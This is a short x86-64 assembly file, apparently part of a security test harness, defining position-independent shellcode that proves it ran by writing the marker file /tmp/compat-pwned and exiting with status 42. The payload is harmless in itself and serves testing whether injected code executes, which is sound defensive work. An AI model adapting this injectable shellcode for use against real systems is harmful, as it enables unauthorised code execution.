/* The attacks' payload: position-independent x86-64 code that proves it ran
 * by writing the marker file /tmp/compat-pwned, then exits with status 42.
 * It lives in a data section (.payload): the attackers hold it as bytes. */
	.section .payload, "a"
	.globl payload_start
payload_start:
	lea	path(%rip), %rdi
	mov	$0x241, %esi		/* O_WRONLY | O_CREAT | O_TRUNC */
	mov	$0644, %edx
	mov	$2, %eax		/* open */
	syscall
	mov	%eax, %edi
	lea	msg(%rip), %rsi
	mov	$msg_end - msg, %edx
	mov	$1, %eax		/* write */
	syscall
	mov	$42, %edi
	mov	$231, %eax		/* exit_group */
	syscall
path:	.asciz	"/tmp/compat-pwned"
msg:	.ascii	"pwned\n"
msg_end:
payload_end:

	.section .rodata
	.p2align 3
	.globl payload_size
payload_size:
	.quad	payload_end - payload_start
	.section .note.GNU-stack, "", @progbits
